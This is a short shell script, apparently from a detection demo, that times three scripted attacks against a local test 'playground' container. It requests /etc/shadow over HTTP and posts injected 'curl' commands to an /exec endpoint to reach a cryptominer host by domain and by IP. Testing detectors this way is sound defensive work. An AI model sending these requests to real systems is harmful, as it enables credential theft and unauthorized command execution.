#!/bin/sh
# The attacker: plays the walkthrough's two attacks against the playground.
# Prints "ATTACK <name> <epoch ms>" before each so that scripts/docker-demo
# can measure the time from attack to storage in the backend.
set -u
playground=${PLAYGROUND:-playground:8080}
miner_domain=${MINER_DOMAIN:?MINER_DOMAIN not set}
miner_ip=${MINER_IP:?MINER_IP not set}
miner_port=${MINER_PORT:-3333}

deadline=$(($(date +%s) + 60))
until curl -fsS -m 2 "http://$playground/health" >/dev/null 2>&1; do
  if [ "$(date +%s)" -gt "$deadline" ]; then echo "attacker: playground not up after 60 s" >&2; exit 1; fi
  sleep 0.5
done

attack() {
  name=$1
  shift
  echo "ATTACK $name $(date +%s%3N)"
  curl -sS -m 10 "$@" | head -n 3
  echo
}
attack read-shadow "http://$playground/etc/shadow"
attack miner-by-domain -X POST "http://$playground/exec" -d "command=curl -s -m 2 http://$miner_domain:$miner_port/"
attack miner-by-ip -X POST "http://$playground/exec" -d "command=curl -s -m 2 http://$miner_ip:$miner_port/"
echo DONE
